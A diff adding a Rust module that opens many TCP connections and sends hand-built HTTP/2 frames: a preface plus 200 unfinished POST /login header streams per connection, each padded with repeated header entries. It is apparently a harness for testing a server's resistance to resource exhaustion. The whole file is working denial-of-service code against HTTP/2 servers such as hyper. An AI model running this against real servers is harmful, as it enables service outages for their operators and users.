@@ -1,0 +1,51 @@
+//! An attack with HTTP/2: many streams, each with the head of a login, many headers and no body.
+
+use std::net::SocketAddr;
+
+use anyhow::Result;
+use tokio::io::AsyncWriteExt as _;
+use tokio::net::TcpStream;
+
+/// The number of streams that hyper accepts at a time.
+const STREAMS: u32 = 200;
+
+/// Opens connections that each send [`STREAMS`] heads of a login.
+pub(crate) async fn attack(server: SocketAddr, connections: usize) -> Result<Vec<TcpStream>> {
+    let bytes = [preface(), heads()].concat();
+    let mut open = Vec::with_capacity(connections);
+    for _ in 0..connections {
+        let mut connection = TcpStream::connect(server).await?;
+        // Fails if the server has already closed the connection.
+        let _ = connection.write_all(&bytes).await;
+        open.push(connection);
+    }
+    Ok(open)
+}
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX);
+    let mut frame = length.to_be_bytes()[1..].to_vec();
+    frame.extend([kind, flags]);
+    frame.extend(stream.to_be_bytes());
+    frame.extend(payload);
+    frame
+}
+
+/// Returns the preface and an empty SETTINGS frame (RFC 9113, section 3.4).
+fn preface() -> Vec<u8> {
+    let settings = frame(4, 0, 0, &[]);
+    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), settings].concat()
+}
+
+fn heads() -> Vec<u8> {
+    // `:method: POST`, `:scheme: http`, `:path: /login`, `:authority: x` (RFC 7541, appendix A).
+    let mut head = vec![0x83, 0x86, 0x44, 6];
+    head.extend(b"/login");
+    head.extend([0x41, 1, b'x']);
+    // `accept-encoding: gzip, deflate`, by its index in the static table.
+    head.extend([0x90; 200]);
+    // HEADERS with END_HEADERS and without END_STREAM.
+    (0..STREAMS)
+        .flat_map(|stream| frame(1, 4, 2 * stream + 1, &head))
+        .collect()
+}
